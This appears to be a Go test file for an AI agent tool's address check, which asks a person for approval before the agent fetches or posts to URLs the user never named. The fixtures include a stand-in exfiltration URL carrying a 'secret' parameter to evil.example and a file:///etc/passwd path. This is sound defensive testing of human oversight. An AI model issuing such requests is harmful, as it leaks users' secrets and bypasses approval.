package tool_test

import (
	"context"
	"slices"
	"strings"
	"testing"

	"github.com/nfa-cli/nfa/internal/llm"
	"github.com/nfa-cli/nfa/internal/tool"
)

// fetching returns a tool that takes an address, and the addresses it received.
func fetching(got *[]string) tool.Tool {
	type input struct {
		URL string `json:"url"`
	}
	return tool.New("fetch", "Reads a page.", tool.Reads, func(_ context.Context, in input) (tool.Result, error) {
		*got = append(*got, in.URL)
		return tool.Result{ForModel: "a page"}, nil
	})
}

// withKnownAddresses returns a context in which these addresses are known.
func withKnownAddresses(t *testing.T, addresses ...string) context.Context {
	return tool.WithAddressCheck(t.Context(), func(address string) bool { return slices.Contains(addresses, address) })
}

func TestAddressCheck_AnUnknownAddressNeedsApproval(t *testing.T) {
	const named, made = "https://example.com/", "https://evil.example/?d=secret"
	var requests []tool.Approval
	var got []string
	answer := tool.Answer{Allowed: true, Scope: tool.Session}
	r := newRouter(t, tool.Options{Rules: memoryRules{}, Approver: tool.ApproverFunc(func(_ context.Context, a tool.Approval) (tool.Answer, error) {
		requests = append(requests, a)
		return answer, nil
	})}, fetching(&got))
	fetch := func(ctx context.Context, address string) tool.Result {
		o, err := r.Call(ctx, llm.ToolCall{Name: "fetch", Arguments: `{"url":"` + address + `"}`})
		if err != nil {
			t.Fatal(err)
		}
		return o.Result
	}
	if fetch(t.Context(), made); len(requests) != 0 {
		t.Errorf("asked %d times, though nobody is to be asked there", len(requests))
	}
	ctx := withKnownAddresses(t, named)
	if fetch(ctx, named); len(requests) != 0 {
		t.Errorf("asked for an address that was named: %+v", requests)
	}
	if fetch(ctx, made); len(requests) != 1 || !strings.Contains(strings.Join(requests[0].Plan, "\n"), made) || requests[0].Pattern != "" {
		t.Fatalf("asked %+v, want once, with the address, and never for always", requests)
	}
	if fetch(ctx, made); len(requests) != 1 {
		t.Errorf("asked %d times, though it was allowed for the session", len(requests))
	}
	answer = tool.Answer{Person: true}
	before := len(got)
	if res := fetch(ctx, made+"2"); len(requests) != 2 || res.Code != tool.CodeRefused || len(got) != before {
		t.Errorf("another address: asked %d times, %+v, %d requests; want a new question, and a no to hold", len(requests), res, len(got)-before)
	}
}

func TestAddressCheck_AnEarlierApprovalDoesNotCoverAnAddress(t *testing.T) {
	var requests []tool.Approval
	r := newRouter(t, tool.Options{Approver: tool.ApproverFunc(func(_ context.Context, a tool.Approval) (tool.Answer, error) {
		requests = append(requests, a)
		return tool.Answer{Allowed: true, Scope: tool.Session}, nil
	})},
		tool.New("post", "Sends.", tool.Writes, func(context.Context, struct {
			To []string `json:"to"`
		}) (tool.Result, error) {
			return tool.Result{ForModel: "sent"}, nil
		}))
	for _, args := range []string{`{"to":["me"]}`, `{"to":["you"]}`, `{"to":["me"," HTTPS://evil.example/"]}`} {
		if _, err := r.Call(withKnownAddresses(t), llm.ToolCall{Name: "post", Arguments: args}); err != nil {
			t.Fatal(err)
		}
	}
	if len(requests) != 2 || !strings.Contains(strings.Join(requests[1].Plan, "\n"), `{"to":["me"," HTTPS`) {
		t.Errorf("asked %+v, want once for the tool and once for the address, with everything that is sent", requests)
	}
}

func TestAddressCheck_StepsOfAnApprovedCallAreNotChecked(t *testing.T) {
	var got []string
	r := newRouter(t, tool.Options{}, fetching(&got))
	run, err := r.With(named("run", tool.Reads, func(ctx context.Context) (tool.Result, error) {
		o, err := r.Step(ctx, "one", "fetch", []byte(`{"url":"https://example.com/"}`))
		return o.Result, err
	}))
	if err != nil {
		t.Fatal(err)
	}
	o, err := run.Call(withKnownAddresses(t), llm.ToolCall{Name: "run"})
	if err != nil || o.Result.IsError || len(got) != 1 {
		t.Errorf("run = %+v, %v with %d requests; want its step to have asked nobody", o.Result, err, len(got))
	}
}

func TestAddresses_AreTextsThatAreOnlyAnAddress(t *testing.T) {
	for _, tt := range []struct {
		name, arguments string
		want            []string
	}{
		{"a field", `{"url":"https://a.example/x"}`, []string{"https://a.example/x"}},
		{"deep down, in any case, with blanks", `{"a":[{"b":" HTTP://a.example "}]}`, []string{"HTTP://a.example"}},
		{"in escapes", `{"url":"\u0068ttps://a.example"}`, []string{"https://a.example"}},
		{"between words", `{"text":"see https://a.example"}`, nil},
		{"another scheme", `{"url":"file:///etc/passwd"}`, nil},
		{"no JSON", `https://a.example`, nil},
		{"nothing", ``, nil},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got, _ := tool.Addresses(tt.arguments); !slices.Equal(got, tt.want) {
				t.Errorf("Addresses(%s) = %q, want %q", tt.arguments, got, tt.want)
			}
		})
	}
}

func FuzzAddresses(f *testing.F) {
	for _, seed := range []string{`{"url":"https://a.example"}`, `["http://"]`, `{"https://a":{"b":[1,null,"x"]}}`, `"`, ``} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, arguments string) {
		addresses, texts := tool.Addresses(arguments)
		for _, address := range addresses {
			if !slices.ContainsFunc(texts, func(text string) bool { return strings.TrimSpace(text) == address }) || !strings.Contains(address, "://") {
				t.Errorf("Addresses(%q) = %q, which is no text of it", arguments, address)
			}
		}
	})
}
